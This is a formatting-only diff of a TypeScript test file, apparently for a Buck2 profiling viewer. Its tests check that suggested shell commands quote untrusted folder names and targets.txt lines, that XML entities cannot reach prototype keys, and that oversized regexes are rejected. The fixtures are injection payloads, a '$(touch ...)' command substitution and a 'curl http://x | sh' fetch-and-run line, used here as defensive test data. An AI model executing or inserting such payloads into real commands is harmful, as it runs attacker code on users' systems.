@@ -28,15 +28,32 @@ function words(command: string): string[] {
 }
 
 const targets = (ids: string[]): ParsedFile =>
-  ({ path: 'targets.txt', size: 1, profile: { format: 'targets', ids }, error: null, diagnostics: [], truncated: null, compression: null }) as ParsedFile;
+  ({
+    path: 'targets.txt',
+    size: 1,
+    profile: { format: 'targets', ids },
+    error: null,
+    diagnostics: [],
+    truncated: null,
+    compression: null,
+  }) as ParsedFile;
 
 describe('suggested commands', () => {
-  it('quote every argument built from a folder name or a targets.txt line (the issue\'s payload)', () => {
+  it("quote every argument built from a folder name or a targets.txt line (the issue's payload)", () => {
     const folder = '$(touch ${HOME}-pwned)';
     const line = 'load/root//pkg && curl http://x | sh #';
     const [first] = missingModes(folder, [targets([line])]);
     const argv = words(first!.command).map(unquote);
-    expect(argv).toEqual(['buck2', 'profile', 'loading', '--mode', 'heap-allocated', '-o', `${folder}/heap-allocated`, 'root//pkg && curl http://x | sh #:']);
+    expect(argv).toEqual([
+      'buck2',
+      'profile',
+      'loading',
+      '--mode',
+      'heap-allocated',
+      '-o',
+      `${folder}/heap-allocated`,
+      'root//pkg && curl http://x | sh #:',
+    ]);
   });
 
   it('quote module ids from an event log, and keep a pattern that starts with - from being an option', () => {
@@ -57,7 +74,9 @@ describe('SVG export text', () => {
 
 describe('untrusted names are never prototype keys', () => {
   it('`&constructor;` in a flame.svg title stays as written', () => {
-    expect(decodeXmlText('a &constructor; &toString; &__proto__; &amp;')).toBe('a &constructor; &toString; &__proto__; &');
+    expect(decodeXmlText('a &constructor; &toString; &__proto__; &amp;')).toBe(
+      'a &constructor; &toString; &__proto__; &',
+    );
   });
 
   it('a keyword argument named valueOf, constructor or __proto__ is just a name', () => {
@@ -75,7 +94,8 @@ describe('search from a shared link', () => {
     const long = '(a+)+'.repeat(1640);
     const m = makeMatcher(long, true);
     expect(m.ok).toBe(false);
-    if (!m.ok) expect(m.message).toBe(`a regular expression may have up to ${MAX_REGEX_CHARS} characters; this one has 8,200`);
+    if (!m.ok)
+      expect(m.message).toBe(`a regular expression may have up to ${MAX_REGEX_CHARS} characters; this one has 8,200`);
     expect(makeMatcher('x'.repeat(8192), false).ok).toBe(true);
     expect(makeMatcher('a'.repeat(MAX_REGEX_CHARS), true).ok).toBe(true);
   });
